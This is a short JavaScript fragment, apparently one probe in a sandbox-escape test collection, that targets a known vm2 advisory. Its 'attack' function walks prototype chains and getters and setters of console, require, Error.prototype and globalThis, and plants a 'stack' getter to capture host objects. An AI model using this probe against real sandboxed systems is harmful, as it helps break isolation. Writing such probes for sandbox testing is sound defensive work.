// Tries: getters and setters of what it was given (vm2, GHSA-grj5-jjm8-h35p)
// Contained by: nothing
// With: look
function attack(options) {
  const { __lookupGetter__: getter, __lookupSetter__: setter, __defineGetter__: define } = Object.prototype
  for (const thing of [options, console, console.log, require, require('integrator-api'), require('integrator-api').exports, Error.prototype, globalThis]) {
    for (let at = thing; at !== null; at = Object.getPrototypeOf(at)) {
      for (const key of Reflect.ownKeys(at)) {
        const { get, set } = Object.getOwnPropertyDescriptor(at, key) ?? {}
        look(`the getter ${String(key)}`, get)
        look(`the setter ${String(key)}`, set)
        look(`looked up ${String(key)}`, getter.call(thing, key))
        look(`looked up ${String(key)}`, setter.call(thing, key))
      }
      look('a prototype', at)
    }
    try {
      define.call(thing, 'stack', function () { look('this', this); return '' })
    } catch {}
  }
  return reached.length > 0 ? reached : 'nothing'
}
